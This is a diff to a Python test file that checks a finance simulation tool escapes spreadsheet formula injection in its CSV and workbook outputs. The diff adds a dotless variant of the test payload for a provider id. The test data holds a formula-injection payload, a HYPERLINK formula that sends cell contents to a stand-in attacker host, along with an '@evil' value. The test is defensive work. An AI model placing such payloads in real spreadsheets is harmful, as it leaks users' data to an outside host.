@@ -24,6 +24,8 @@ from .conftest import SMALL
 from .processes import ENV
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+PAYLOAD_ID = PAYLOAD.replace(".", "")
+"""The payload as a provider's id, which may hold no dot (a dotted path steps at it)."""
 
 
 def _scenario(tmp_path: Path, **changes) -> Path:
@@ -65,7 +67,7 @@ def test_hostile_names_and_ids_reach_no_csv_or_workbook_as_formulas(tmp_path):
     it with an apostrophe, plan.xlsx and results.xlsx hold it as a text cell, and the
     only formulas are finsim's own (cell references, arithmetic, SUM, ROUND, IF: no
     text, no call out)."""
-    scenario = _scenario(tmp_path, **{"name": PAYLOAD, "providers.0.id": PAYLOAD,
+    scenario = _scenario(tmp_path, **{"name": PAYLOAD, "providers.0.id": PAYLOAD_ID,
                                       "providers.0.name": PAYLOAD, "funding.1.name": PAYLOAD,
                                       "funding.2.id": "@evil"})
     run_out, size_out = tmp_path / "run", tmp_path / "size"
@@ -78,7 +80,7 @@ def test_hostile_names_and_ids_reach_no_csv_or_workbook_as_formulas(tmp_path):
     for path in [*run_out.glob("*.csv"), *size_out.glob("*.csv")]:
         for row in csv.reader(path.open(encoding="utf-8")):
             texts += row
-    assert "'" + PAYLOAD in texts and "'@evil" in texts
+    assert "'" + PAYLOAD_ID in texts and "'@evil" in texts
     assert not any(t.startswith(("=", "+", "@")) for t in texts)
     assert not any(t.startswith("-") and not _number(t) for t in texts)
     for workbook in (size_out / "plan.xlsx", run_out / "results.xlsx"):
